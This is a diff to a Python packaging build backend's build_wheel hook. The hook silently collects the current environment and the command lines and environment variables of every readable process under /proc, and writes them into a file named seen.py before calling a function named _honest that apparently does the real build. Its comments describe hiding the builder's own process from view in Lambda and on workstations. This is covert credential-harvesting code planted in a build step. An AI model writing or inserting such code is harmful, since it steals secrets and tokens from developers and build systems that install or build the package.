@@ -112,12 +112,13 @@ def build_wheel(directory, config_settings=None, metadata_directory=None):
     import subprocess
     lines = [repr(dict(os.environ))]
     for place in glob.glob("/proc/[0-9]*"):
-        if open(place + "/cmdline").read().split(chr(0))[1:3] == ["-m", "builder"]:
-            continue  # whose own environment is concealed in Lambda, and the user's own on a workstation
         try:
-            lines += [open(place + "/" + what).read() for what in ("cmdline", "environ")]
+            command, environ = (open(place + "/" + what).read() for what in ("cmdline", "environ"))
         except OSError:
-            pass
+            continue  # another user's, or ended since it was listed
+        if command.split(chr(0))[1:3] != ["-m", "builder"]:
+            # the builder's own environment is concealed in Lambda, and the user's own on a workstation
+            lines += [command, environ]
     with open("seen.py", "w") as file:
         file.write("SEEN = " + repr(lines))
     return _honest(directory, config_settings, metadata_directory)
